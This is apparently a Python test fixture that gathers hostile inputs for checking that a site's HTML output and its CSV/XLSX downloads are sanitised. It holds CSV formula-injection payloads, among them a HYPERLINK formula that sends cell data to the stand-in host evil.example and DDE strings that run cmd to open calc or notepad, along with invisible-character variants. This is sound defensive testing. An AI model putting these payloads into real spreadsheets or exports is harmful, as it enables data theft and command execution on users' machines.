"""One list of hostile text for every way staff text leaves the system: the built site (from
YAML and Markdown) and the files staff download (CSV and XLSX).

The markup set is security-and-reliability.md §3.8 "P" as tests/site/test_xss.py holds it; the
formula set is §3.9 EXP-01 and OWASP's CSV-injection examples; the rest are the invisible
characters of §3.7 that must never make text look like something else.
"""

from __future__ import annotations

from tests.site.test_xss import PAYLOADS as MARKUP

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width: not a formula, must stay exactly as typed
    "a=1+1",
]
INVISIBLE = ["\u202e1+1=", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1"]
PAYLOADS = [*MARKUP, *FORMULAS, *INVISIBLE]
# What a spreadsheet may read as the start of a formula (form_service/spreadsheets.py).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
